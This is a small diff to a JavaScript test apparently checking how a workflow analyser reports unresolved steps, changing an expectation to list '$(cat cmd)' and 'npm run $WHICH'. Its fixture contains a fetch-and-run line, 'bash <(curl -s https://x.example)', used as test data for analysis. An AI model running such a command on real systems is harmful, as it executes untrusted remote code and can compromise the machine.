@@ -159,7 +159,9 @@ jobs:
         'steps: [{ run: "$(cat cmd)" }, { run: "npm run $WHICH" }, { run: "bash <(curl -s https://x.example)" }]',
       ),
     })
-    expect(unfollowed.map(({ what }) => what)).toEqual(expect.arrayContaining(['…', 'npm run …']))
+    expect(unfollowed.map(({ what }) => what)).toEqual(
+      expect.arrayContaining(['$(cat cmd)', 'npm run $WHICH']),
+    )
   })
 })
 
